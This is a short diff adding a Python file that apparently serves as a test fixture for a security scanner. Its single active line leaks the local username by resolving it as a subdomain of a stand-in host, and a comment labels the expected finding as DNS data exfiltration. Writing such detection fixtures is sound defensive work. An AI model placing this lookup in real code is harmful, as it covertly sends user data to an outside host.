@@ -1,0 +1,4 @@
+import getpass
+import socket
+
+socket.gethostbyname(f"{getpass.getuser()}.x.collect.example") # expect: data-exfiltration/dns
